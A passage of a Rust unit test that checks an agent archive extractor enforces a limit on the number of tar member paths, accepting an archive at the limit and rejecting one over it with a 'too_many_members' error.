    // At the edge, with a limit of 5: a/b/c/f is 4 paths, g the fifth; a/b/x/y is two more.
    use computer_agent::mcp::archive::extract;
    let lim = Limits { members: 5, ..Limits::default() };
    let at = Tar::default().file("a/b/c/f", b"1").file("g", b"2").dir("a/b/").end();
    let dir = tempfile::tempdir().expect("tempdir");
    let out = extract(&at, dir.path(), &lim).expect("5 paths with a limit of 5");
    assert_eq!(out.files, vec!["a/b/c/f".to_string(), "g".to_string()]);
    let over = Tar::default().file("a/b/c/f", b"1").file("g", b"2").file("a/b/x/y", b"3").end();
    let dir = tempfile::tempdir().expect("tempdir");
    let err = extract(&over, dir.path(), &lim).expect_err("7 paths");
    assert_eq!(err.reason(), "too_many_members", "{err}");
}
